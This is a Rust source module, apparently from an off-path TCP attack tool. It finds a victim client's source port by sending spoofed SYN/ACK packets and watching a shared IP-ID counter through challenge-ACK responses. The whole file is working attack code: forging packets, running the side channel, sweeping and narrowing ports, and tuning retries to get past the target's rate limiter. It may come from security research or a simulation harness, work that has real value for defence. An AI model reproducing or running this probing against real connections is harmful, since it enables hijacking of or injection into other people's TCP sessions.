//! Client-port discovery over the shared-counter side channel.
//!
//! Spoofed SYN/ACK segments (source = client, guessed source port) hit the
//! server: a wrong guess draws a socketless RST whose IPID is zero — silent
//! on the shared counter — while the right guess lands on the established
//! connection and draws a challenge ACK, which bumps the counter watched
//! through the collider's echo stream. Ports are swept in blocks bracketed
//! by echo cut points, then the hot block is narrowed by halving.

use std::collections::VecDeque;
use std::net::Ipv4Addr;

use crate::attacker::observe::ObservationStream;
use crate::attacker::{AttackConfig, AttackerIo, Pacer};
use crate::net::packet::{Packet, TcpFlags, TcpSegment};

const BLOCK: u16 = 64;

/// How many times a lost counter view of the same port range is re-read
/// before the range is given up. Loss hits a block-sized span a few percent
/// of the time, and a skipped block that held the port costs a whole sweep,
/// so retries are deliberately generous: five consecutive losses of one
/// block are vanishingly unlikely at the loss rates the probes survive at
/// all.
const SPAN_RETRIES: u32 = 4;

fn synack_probe(cfg: &AttackConfig, sport: u16) -> Packet {
    let seg = TcpSegment::new(sport, cfg.server_port, 1, 1, TcpFlags::SYN | TcpFlags::ACK);
    Packet::tcp(cfg.client, cfg.server, 0, true, seg)
}

/// Send one probe per port between two echo cut points and report the
/// surplus counter increments attributed to that span. `None` means the
/// bracketing echoes never both came back.
fn probed_extra(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    stream: &mut ObservationStream,
    pace: &mut Pacer,
    ports: impl Iterator<Item = u16>,
    repeats: u32,
) -> Option<i64> {
    let cut_a = stream.last_sent();
    for port in ports {
        for _ in 0..repeats {
            let t = pace.take().max(io.now());
            stream.pump_until(io, t);
            io.send(synack_probe(cfg, port));
        }
    }
    let cut_b = stream.pump_one_echo(io);
    let deadline = stream.sent_time(cut_b) + io.settle_ms() + 40;
    stream.settle_extra(io, cut_a, cut_b, deadline)
}

/// Let the victim's per-connection challenge-ACK limiter recover while the
/// echo stream keeps its cadence.
fn rearm(io: &mut AttackerIo<'_>, cfg: &AttackConfig, stream: &mut ObservationStream) {
    let t = io.now() + cfg.challenge_ack_interval_ms + 20;
    stream.pump_until(io, t);
}

struct BlockProbe {
    lo: u16,
    hi: u16,
    cut_a: u64,
    cut_b: u64,
    attempts: u32,
}

struct QueuedBlock {
    lo: u16,
    hi: u16,
    attempts: u32,
    /// Earliest re-probe time. A lost counter view may have hidden a
    /// consumed challenge, so a retry before the per-connection limiter
    /// recovers would read a clean zero off the hot block.
    not_before: u64,
}

/// Find the client's source port for the live connection to the server, or
/// `None` if no sweep attempt turns up a confirmed port. `probe_src` is the
/// colliding attacker address whose echo stream reads the shared counter.
pub fn detect_connection_port(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
) -> Option<u16> {
    for _ in 0..=cfg.retry_on_ambiguity {
        if let Some(port) = sweep_once(io, cfg, probe_src) {
            return Some(port);
        }
    }
    None
}

fn sweep_once(io: &mut AttackerIo<'_>, cfg: &AttackConfig, probe_src: Ipv4Addr) -> Option<u16> {
    let deadline = io.now() + cfg.timeout(crate::attacker::Phase::PortScan);
    let echo_rate = (1000 / cfg.echo_interval_ms) as u32;
    let probe_rate = cfg.port_scan_rate_pps.saturating_sub(echo_rate).max(1);
    let icmp_id = 0x7002 | ((io.packets_sent() as u16 & 0xff) << 4);
    let mut stream = ObservationStream::begin(io, probe_src, cfg.server, icmp_id, cfg.echo_interval_ms);
    // quiet start: past the warm-up echo and with the challenge limiter free
    rearm(io, cfg, &mut stream);

    let (range_lo, range_hi) = cfg.port_range;
    let mut queue: VecDeque<QueuedBlock> = VecDeque::new();
    let mut lo = range_lo;
    while lo <= range_hi {
        let hi = lo.saturating_add(BLOCK - 1).min(range_hi);
        queue.push_back(QueuedBlock { lo, hi, attempts: 0, not_before: 0 });
        if hi == range_hi {
            break;
        }
        lo = hi + 1;
    }

    let mut pace = Pacer::new(io.now(), probe_rate);
    let mut pending: VecDeque<BlockProbe> = VecDeque::new();
    let mut hot: Option<(u16, u16)> = None;

    'sweep: loop {
        while let Some(front) = pending.front() {
            let ready_at = stream.sent_time(front.cut_b) + io.settle_ms();
            if io.now() < ready_at {
                break;
            }
            let b = pending.pop_front().unwrap();
            match stream.extra_between(b.cut_a.max(1), b.cut_b) {
                Some(d) if d >= 1 => {
                    hot = Some((b.lo, b.hi));
                    break 'sweep;
                }
                Some(_) => {}
                None if b.attempts < SPAN_RETRIES => queue.push_back(QueuedBlock {
                    lo: b.lo,
                    hi: b.hi,
                    attempts: b.attempts + 1,
                    not_before: io.now() + cfg.challenge_ack_interval_ms + 20,
                }),
                None => io.note(format!("port block {}-{} lost; skipping", b.lo, b.hi)),
            }
        }
        if io.now() > deadline {
            io.note("port sweep hit its time budget");
            return None;
        }
        let Some(blk) = queue.pop_front() else {
            if pending.is_empty() {
                break 'sweep;
            }
            let t = stream.sent_time(pending.front().unwrap().cut_b) + io.settle_ms();
            stream.pump_until(io, t.max(io.now() + 1));
            continue;
        };
        if io.now() < blk.not_before {
            // rotate to a ready block; if none is ready, idle on the cadence
            // until the earliest limiter window reopens
            let all_waiting = queue.iter().all(|q| io.now() < q.not_before);
            let earliest = queue
                .iter()
                .map(|q| q.not_before)
                .chain(std::iter::once(blk.not_before))
                .min()
                .unwrap();
            queue.push_back(blk);
            if all_waiting {
                let t = match pending.front() {
                    Some(front) => (stream.sent_time(front.cut_b) + io.settle_ms()).min(earliest),
                    None => earliest,
                };
                stream.pump_until(io, t.max(io.now() + 1));
            }
            continue;
        }
        pace.realign(io.now());
        let cut_a = stream.last_sent();
        for port in blk.lo..=blk.hi {
            let t = pace.take().max(io.now());
            stream.pump_until(io, t);
            io.send(synack_probe(cfg, port));
        }
        let cut_b = stream.pump_one_echo(io);
        pending.push_back(BlockProbe {
            lo: blk.lo,
            hi: blk.hi,
            cut_a,
            cut_b,
            attempts: blk.attempts,
        });
    }

    let (mut nlo, mut nhi) = hot?;
    // the hit consumed the limiter; recover before narrowing
    rearm(io, cfg, &mut stream);
    while nlo < nhi {
        let mid = nlo + (nhi - nlo) / 2;
        let mut verdict = None;
        for attempt in 0..=SPAN_RETRIES {
            if attempt > 0 {
                // the lost read may have hidden a hit; let the limiter
                // recover so a re-read of a hot range fires again
                rearm(io, cfg, &mut stream);
            }
            pace.realign(io.now());
            match probed_extra(io, cfg, &mut stream, &mut pace, nlo..=mid, 1) {
                Some(d) => {
                    verdict = Some(d >= 1);
                    break;
                }
                None => {}
            }
        }
        match verdict {
            Some(true) => {
                nhi = mid;
                rearm(io, cfg, &mut stream);
            }
            Some(false) => nlo = mid + 1,
            None => {
                io.note("port narrowing stayed ambiguous");
                return None;
            }
        }
        if io.now() > deadline {
            io.note("port narrowing hit its time budget");
            return None;
        }
    }

    // confirm the single survivor before reporting it
    rearm(io, cfg, &mut stream);
    for attempt in 0..=SPAN_RETRIES {
        if attempt > 0 {
            rearm(io, cfg, &mut stream);
        }
        pace.realign(io.now());
        match probed_extra(io, cfg, &mut stream, &mut pace, std::iter::once(nlo), 2) {
            Some(d) if d >= 1 => return Some(nlo),
            Some(_) => return None,
            None => {}
        }
    }
    None
}
